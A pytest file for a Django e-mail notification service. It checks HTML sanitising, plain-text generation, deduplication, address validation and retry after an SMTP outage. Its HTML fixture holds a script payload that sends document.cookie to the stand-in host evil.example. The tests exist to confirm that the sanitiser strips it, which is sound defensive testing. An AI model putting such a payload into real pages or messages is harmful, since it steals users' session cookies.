"""send_email: one e-mail given as a subject and HTML, queued and sent like every other message,
its HTML sanitised and a plain-text part made from it."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.core.mail import EmailMultiAlternatives
from django.utils import timezone

from notifications.email.mailer import notifications_process
from notifications.models import Notification
from notifications.services import send_email
from tests.process_group import free_port

from .test_faults_mail_outage import smtp_to  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
Status = Notification.Status
HTML = (
    '<h1>Your statement</h1><p onclick="steal()">Hello &amp; welcome, <b>Ann</b>.'
    "<script>document.location='https://evil.example/?c='+document.cookie</script></p>"
    "<ul><li>Rent: 1,200.00</li><li>Fees: 30.00</li></ul>"
    '<p>See <a href="https://cron.example.com/s/7">the details</a>.</p>'
)


def test_it_sends_one_message_with_sanitised_html_and_a_text_part(outbox):
    assert send_email("owner@example.com", "March statement", HTML) == 1
    result = notifications_process()
    assert result.sent == 1

    [message] = outbox
    assert isinstance(message, EmailMultiAlternatives)
    assert message.to == ["owner@example.com"] and message.subject == "March statement"
    [(html, mimetype)] = message.alternatives
    assert mimetype == "text/html"
    assert "<script" not in html and "document.cookie" not in html and "onclick" not in html
    assert "<b>Ann</b>" in html and 'href="https://cron.example.com/s/7"' in html
    assert message.body.startswith("Your statement\n\nHello & welcome, Ann.")
    assert "- Rent: 1,200.00\n- Fees: 30.00" in message.body
    assert "the details (https://cron.example.com/s/7)" in message.body
    assert "<" not in message.body and "document.cookie" not in message.body


def test_it_sends_the_text_part_it_is_given(outbox):
    send_email(["a@example.com", "b@example.com"], "Hi", "<p>Hi</p>", text="Plain hello")
    notifications_process()
    assert sorted(m.to[0] for m in outbox) == ["a@example.com", "b@example.com"]
    assert {m.body for m in outbox} == {"Plain hello"}


def test_it_queues_a_repeated_dedupe_key_once(outbox):
    assert send_email("a@example.com", "Once", "<p>x</p>", dedupe_key="welcome:7") == 1
    assert send_email("a@example.com", "Once", "<p>x</p>", dedupe_key="welcome:7") == 0
    notifications_process()
    assert len(outbox) == 1


def test_it_refuses_a_bad_address_and_queues_nothing():
    with pytest.raises(ValueError, match="Not an e-mail address"):
        send_email(["ok@example.com", "not-an-address"], "Hi", "<p>Hi</p>")
    assert not Notification.objects.exists()


def test_it_defers_the_message_while_the_mail_server_is_down_and_sends_it_on_retry(smtp_to, settings):  # noqa: F811
    smtp_to(free_port())  # nothing listens: connection refused
    send_email("owner@example.com", "March statement", HTML)
    now = timezone.now()
    first = notifications_process(now=now)
    assert (first.sent, first.failed) == (0, 1)
    waiting = Notification.objects.get()
    assert waiting.status == Status.RETRYING and waiting.send_after == now + timedelta(minutes=1)

    from django.core import mail

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    mail.outbox = []
    assert notifications_process(now=now + timedelta(seconds=30)).sent == 0  # not due yet
    assert notifications_process(now=now + timedelta(minutes=1)).sent == 1
    [message] = mail.outbox
    assert message.subject == "March statement" and "<script" not in message.alternatives[0][0]
    assert Notification.objects.get().status == Status.SENT
